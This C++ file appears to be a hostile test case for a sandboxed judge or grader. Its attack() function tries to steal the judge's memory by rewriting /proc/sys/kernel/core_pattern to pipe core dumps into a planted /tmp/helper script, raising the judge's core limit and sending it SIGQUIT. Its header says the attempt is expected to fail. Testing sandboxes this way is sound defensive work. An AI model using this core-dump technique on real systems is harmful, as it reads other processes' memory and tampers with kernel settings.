// Mistake: it has the kernel hand it the judge's memory as a core dump
// Fails: machine
// Says: the judge ended during

#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#include <csignal>
#include <fstream>

#include "tests/hostile/tools.h"

void attack(const std::string&) {
  std::ofstream("/tmp/helper") << "#!/bin/sh\ncat >/tmp/core\n";
  ::chmod("/tmp/helper", 0755);
  (void)hostile::write_to("/proc/sys/kernel/core_pattern", "|/tmp/helper");
  (void)hostile::write_to("/proc/sys/fs/suid_dumpable", "2");
  const rlimit all{RLIM_INFINITY, RLIM_INFINITY};
  ::prlimit(hostile::judge(), RLIMIT_CORE, &all, nullptr);
  ::signal(SIGHUP, SIG_IGN);
  ::kill(hostile::judge(), SIGQUIT);
  for (int times = 0; times < 100; ++times) {
    const auto core = hostile::content("/tmp/core");
    if (!core.empty()) hostile::tell_everywhere(hostile::made_up_story());
    ::usleep(10'000);
  }
}
